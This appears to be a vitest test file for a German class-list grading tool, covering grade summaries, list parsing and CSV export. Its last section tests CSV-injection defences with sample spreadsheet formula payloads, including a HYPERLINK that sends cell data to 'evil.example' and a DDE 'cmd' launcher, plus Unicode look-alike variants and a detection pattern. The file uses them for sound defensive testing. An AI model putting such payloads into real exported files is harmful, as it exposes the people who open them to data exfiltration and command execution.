import { describe, expect, it } from 'vitest'
import { defuseFormulas } from '@/lib/csv'
import { keyOf } from '@/lib/key'
import { standardLiveConfig } from '@/test/live-config'
import { summarize } from './class-list'
import { toCsv } from './class-list-csv'
import { calculate } from './grading'

const standard = keyOf(standardLiveConfig().config)

describe('summarize', () => {
  it('grades each line like the calculator, with or without a name', () => {
    const s = summarize(standard, '40', 'Anna; 31,5\n27\n\n  Ben Müller\t12.5  \nZoë;40')
    if (s === null) throw new Error('no summary')
    expect(s.lines.map(({ line, name, points }) => [line, name, points])).toEqual([
      [1, 'Anna', '31,5'],
      [2, '', '27'],
      [4, 'Ben Müller', '12,5'], // written with the key's separator, as every number the list writes
      [5, 'Zoë', '40'],
    ])
    for (const l of s.lines) {
      expect(l.result).toEqual(calculate(standard, '40', l.points)) // the one grade rule
    }
    expect(s.graded).toBe(4)
  })

  it('marks invalid lines with a German reason and leaves them out of the figures', () => {
    const s = summarize(standard, '40', 'Anna;\nBen; abc\nCem; -2\nDora; 41\nEmil; 0\n1,2,3')
    expect(
      s?.lines.map((l) =>
        'error' in l.result ? l.result.error : 'grade' in l.result ? l.result.grade : 'abwesend',
      ),
    ).toEqual([
      'Punkte fehlen.',
      '„abc“ ist keine Zahl.',
      'Punkte können nicht negativ sein.',
      'Mehr als 40 Punkte.',
      '6', // 0 points are a result, grade 6
      '„1,2,3“ ist keine Zahl.',
    ])
    expect(s?.graded).toBe(1)
    expect(s?.byGrade['6']).toBe(1)
  })

  it('counts per band and per grade; the average counts + and − as the plain grade', () => {
    // standard, 40 points: 40 → 1, 34 → 2+, 30 → 2, 29 → 2-, 14 → 5+, 2 → 6
    const s = summarize(standard, '40', '40\n34\n30\n29\n14\n2')
    if (s === null) throw new Error('no summary')
    expect(s.lines.map((l) => ('grade' in l.result ? l.result.grade : ''))).toEqual([
      '1',
      '2+',
      '2',
      '2-',
      '5+',
      '6',
    ])
    expect(s.byBand).toMatchObject({ '1': 1, '2+': 1, '2': 1, '2-': 1, '5+': 1, '6': 1, '3': 0 })
    expect(s.byGrade).toEqual({ '1': 1, '2': 3, '3': 0, '4': 0, '5': 1, '6': 1 })
    expect(s.average).toBe('3,00') // (1 + 2 + 2 + 2 + 5 + 6) / 6
    expect(s.failing).toBe('33,3%') // 2 of 6
    expect(s.failingCount).toBe(2)
  })

  it('rounds the average half away from zero to two decimals', () => {
    // grades 1, 1, 2 → 4/3 = 1,333… ; 1, 2 → 1,5 ; 1,1,1,2,2,2,2,2 → 13/8 = 1,625 → 1,63
    expect(summarize(standard, '40', '40\n40\n30')?.average).toBe('1,33')
    expect(summarize(standard, '40', '40\n40\n40\n30\n30\n30\n30\n30')?.average).toBe('1,63')
  })

  it('needs a total above 0 and has no figures without valid lines', () => {
    expect(summarize(standard, '', '12')).toBeNull()
    expect(summarize(standard, '0', '12')).toBeNull()
    expect(summarize(standard, '-40', '12')).toBeNull()
    const s = summarize(standard, '40', 'abc')
    expect([s?.average, s?.failing, s?.graded]).toEqual(['', '', 0])
  })
})

describe('points typed with a point', () => {
  // "7.5" in a German CSV opens as a date in a spreadsheet, and a pupil's sheet would read
  // „7.5 von 40 Punkten“ beside „0,5 Punkte“: valid points are written with the key's separator.
  it('are written with a comma in the list, its CSV and the cells of tasks and content', () => {
    const plain = summarize(standard, '40', 'Anna 31.5\nBen; 7.5\nCem; 41.5\nDora 12,5')
    expect(plain?.lines.map((l) => l.points)).toEqual(['31,5', '7,5', '41.5', '12,5']) // a wrong one as typed
    expect(toCsv(plain ?? never()).split('\r\n')).toContain('2;Ben;7,5;18,8%;6+;')
    const tasks = summarize(standard, '', 'Name; A1 (20); A2 (20)\nAnna; 10.5; 12\nBen; 3.5; 25')
    expect(tasks?.lines.map((l) => l.cells?.map((c) => c.text))).toEqual([
      ['10,5', '12'],
      ['3,5', '25'],
    ])
    const language = summarize(standard, '', 'Name; Inhalt (40); Fehler; Wörter\nAnna; 31.5; 10.5; 350')
    expect(language?.lines[0]?.points).toBe('31,5')
    expect(language?.lines[0]?.cells?.[0]?.text).toBe('31,5')
    expect(toCsv(language ?? never()).split('\r\n')).toContain('1;Anna;31,5;78,8%;2;10,5;350;3,00;;2;')
  })
})

describe('a class list as teachers paste it', () => {
  const parts = (text: string) =>
    summarize(standard, '40', text)?.lines.map((l) => [l.number, l.name, l.points, 'grade' in l.result])

  it.each([
    ['Anna 31,5'],
    ['Anna, 31,5'],
    ['Anna;31,5'],
    ['Anna\t31,5'],
    ['Anna,31,5'],
    ['  Anna ,  31,5  '],
  ])('takes the number at the end of %j as the points', (line) => {
    expect(parts(line)).toEqual([[1, 'Anna', '31,5', true]])
  })

  it('keeps a name with spaces and digits, and a line of points alone', () => {
    expect(parts('Anna Lena Müller 2 31.5\n27\n1,2,3')).toEqual([
      [1, 'Anna Lena Müller 2', '31,5', true],
      [2, '', '27', true],
      [3, '', '1,2,3', false], // no name holds no letter: one wrong number, not "1,2" with 3 points
    ])
  })

  it('counts "fehlt" and "krank" apart: neither graded nor an error', () => {
    const s = summarize(standard, '40', 'Anna fehlt\nBen; KRANK\nCem, 20\nDora abc')
    expect(s?.lines.map((l) => [l.name, l.points, l.result])).toEqual([
      ['Anna', 'fehlt', { absent: true }],
      ['Ben', 'KRANK', { absent: true }],
      ['Cem', '20', calculate(standard, '40', '20')], // 4+: the average counts it as 4
      ['Dora', 'abc', { error: '„abc“ ist keine Zahl.' }],
    ])
    expect([s?.graded, s?.absent, s?.average]).toEqual([1, 2, '4,00'])
    expect(
      toCsv(s ?? never())
        .split('\r\n')
        .slice(1, 3),
    ).toEqual(['1;Anna;fehlt;;;abwesend', '2;Ben;KRANK;;;abwesend'])
  })

  it('numbers the pupils, not the lines: blank lines and a heading do not count', () => {
    const s = summarize(standard, '40', 'Name;Punkte\n\nAnna;31\n\n\nBen;20')
    expect(s?.lines.map((l) => [l.line, l.number, l.name])).toEqual([
      [3, 1, 'Anna'],
      [6, 2, 'Ben'],
    ])
  })
})

function never(): never {
  throw new Error('no summary')
}

describe('toCsv', () => {
  it('writes semicolons, CRLF and a byte order mark, and quotes and defuses cells', () => {
    const s = summarize(standard, '40', 'Anna "A"; Lange;31,5\n=SUMME(A1);40\n-5')
    if (s === null) throw new Error('no summary')
    const csv = toCsv(s)
    expect(csv.startsWith('\uFEFFNr.;Name;Punkte;Prozent;Note;Hinweis\r\n')).toBe(true)
    const rows = csv.slice(1).split('\r\n')
    expect(rows[1]).toBe('1;"Anna ""A""; Lange";31,5;78,8%;2;')
    expect(rows[2]).toBe("2;'=SUMME(A1);40;100,0%;1;")
    expect(rows[3]).toBe("3;;'-5;;;Punkte können nicht negativ sein.")
    expect(rows.slice(4, 8)).toEqual(['', 'Durchschnitt;1,50', 'Anteil 5 und 6;0,0%', ''])
    expect(rows.slice(8)).toEqual([
      'Note;Anzahl',
      '1;1',
      '1\u2212;0', // "1-" would read as −1 in a German spreadsheet program
      '2+;0',
      '2;1',
      ...['2-', '3+', '3', '3-', '4+', '4', '4-', '5+', '5', '5-', '6+', '6'].map(
        (g) => `${g.replace('-', '\u2212')};0`,
      ),
      '',
    ])
  })
})

describe("a pasted heading and the list's title", () => {
  it.each([
    ['Name\tPunkte', 'Name\tPunkte'],
    ['Name; Punktzahl', 'Name; Punktzahl'],
    ['Erreichte Punkte', 'Erreichte Punkte'],
  ])('skips a first line %j that names the columns', (heading, kept) => {
    const s = summarize(standard, '40', `\n${heading}\nAnna\t31,5\nBen\t20`)
    expect(s?.header).toBe(kept)
    expect(s?.lines.map((l) => [l.line, l.name])).toEqual([
      [3, 'Anna'],
      [4, 'Ben'],
    ])
    expect(s?.graded).toBe(2)
  })

  it('keeps a first pupil whose points are wrong as an invalid line, and a heading later on too', () => {
    const s = summarize(standard, '40', 'Clara; zweiundzwanzig\nName; Punkte')
    expect(s?.header).toBeNull()
    expect(
      s?.lines.map((l) =>
        'error' in l.result ? l.result.error : 'grade' in l.result ? l.result.grade : 'abwesend',
      ),
    ).toEqual(['„zweiundzwanzig“ ist keine Zahl.', '„Punkte“ ist keine Zahl.'])
  })

  it('writes the title and the date above the CSV table', () => {
    const s = summarize(standard, '40', 'Anna; 31,5')
    if (s === null) throw new Error('no summary')
    const rows = toCsv(s, { title: '7b Mathematik, 2. Klassenarbeit', date: '23.11.2026' })
      .slice(1)
      .split('\r\n')
    expect(rows.slice(0, 4)).toEqual([
      'Titel;7b Mathematik, 2. Klassenarbeit',
      'Datum;23.11.2026',
      '',
      'Nr.;Name;Punkte;Prozent;Note;Hinweis',
    ])
  })
  it('names the key, its version and the teacher’s adjustment above the table; without one, no line for it', () => {
    const s = summarize(standard, '40', 'Anna; 31,5')
    if (s === null) throw new Error('no summary')
    const scale = { name: 'Oberstufe', version: 3 }
    const rows = (adjusted?: string) =>
      toCsv(s, { title: '', date: '', scale: { ...scale, adjusted } })
        .slice(1)
        .split('\r\n')
    expect(rows('4 ab 45 % statt 50 %, 1 ab 92 % statt 87 %').slice(0, 4)).toEqual([
      'Notenschlüssel;Oberstufe',
      'Version;3',
      'Für diese Arbeit angepasst;4 ab 45 % statt 50 %, 1 ab 92 % statt 87 %',
      '',
    ])
    // the school's own key: the file as before the adjustment existed
    expect(toCsv(s, { title: '', date: '', scale: { ...scale, adjusted: '' } })).toBe(
      toCsv(s, { title: '', date: '', scale }),
    )
    expect(rows('').slice(0, 3)).toEqual(['Notenschlüssel;Oberstufe', 'Version;3', ''])
  })
})

describe('CSV injection', () => {
  const attacks = [
    'Max,=1+1,; 20',
    '=HYPERLINK("https://evil.example/?"&A1;"Klick");5',
    "=cmd|' /C calc'!A0;5",
    'Eva,+1+1;5',
    'Ben, -2+3;5',
    'Ida\t@SUMME(A1);5',
    'Tom,\t=1+1;5',
    'Lea; =1+1;5',
    // after white space other than the space, and after invisible characters
    'Max,\u00a0=1+1;5',
    'Max, \u00a0 =1+1;5',
    'Max,\u3000+1+1;5',
    'Max,\u2003-1+1;5',
    'Max,\u200b=1+1;5',
    '\u200b=1+1;5',
    '\u2060@SUMME(A1);5',
    'Max,\ufeff=1+1;5',
    'Max,\u202e=1+1;5',
    // the full-width forms, and the other forms whose compatibility form is a formula sign
    '\uff1dHYPERLINK("https://evil.example");5',
    'Eva;\uff0b1+1',
    'Ben;\uff0d2+3',
    '\uff20SUMME(A1);5',
    'Max,\u00a0\uff1d1+1;5',
    '\ufe66\ufe62\ufe63\ufe6b;5',
    '\u207c1;5',
    '\u208a1;5',
    '\ufb291;5',
    '\u22121;5',
  ]
  // the formula signs and the forms a spreadsheet program may take for them
  const formula =
    /^[=+\-@\uff1d\uff0b\uff0d\uff20\ufe66\ufe62\ufe63\ufe6b\u207a\u207c\u208a\u208c\ufb29\u2212]/
  const blank = /^["\p{White_Space}\p{Cf}]+/u

  it.each(attacks)('no cell of %j starts a formula, whatever the separator', (line) => {
    const s = summarize(standard, '40', line)
    if (s === null) throw new Error('no summary')
    const rows = toCsv(s)
      .slice(1)
      .split(/\r\n|\r|\n/)
    for (const separator of [';', ',', '\t']) {
      for (const row of rows) {
        for (const cell of row.split(separator)) {
          const where = `${separator === '\t' ? 'tab' : separator} in ${JSON.stringify(row)}`
          // a program that splits naively may also keep the quotes and drop leading spaces
          expect(cell.replace(/^[" ]+/, ''), where).not.toMatch(/^[\t\r]/)
          // and one may drop any white space and invisible character before it reads the cell
          expect(cell.replace(blank, ''), where).not.toMatch(formula)
        }
      }
    }
  })

  it('keeps ordinary text as it is', () => {
    expect(defuseFormulas('Anna Lange')).toBe('Anna Lange')
    expect(defuseFormulas('31,5')).toBe('31,5')
    expect(defuseFormulas('Max,=1+1,')).toBe("Max,'=1+1,")
    expect(defuseFormulas('a, @b')).toBe("a, '@b")
    expect(defuseFormulas('Jörg Müller-Lüdenscheidt')).toBe('Jörg Müller-Lüdenscheidt')
    expect(defuseFormulas('\u00a0Anna, \u00a0Ben')).toBe('\u00a0Anna, \u00a0Ben')
    expect(defuseFormulas('Anna ＝ Ben')).toBe('Anna ＝ Ben')
  })

  it.each([
    ['\u00a0=1+1', "\u00a0'=1+1"],
    ['\u200b\u00a0=1+1', "\u200b\u00a0'=1+1"],
    ['Max,\u3000＋1', "Max,\u3000'＋1"],
    ['＠SUMME(A1)', "'＠SUMME(A1)"],
    ['－5', "'－5"],
    ['a\u0000b,\u0000', "a\u0000b,'\u0000"],
    ['x;\n=1', "x;'\n'=1"],
  ])('defuses %j as %j: the quote goes right before the formula sign', (value, defused) => {
    expect(defuseFormulas(value)).toBe(defused)
  })
})
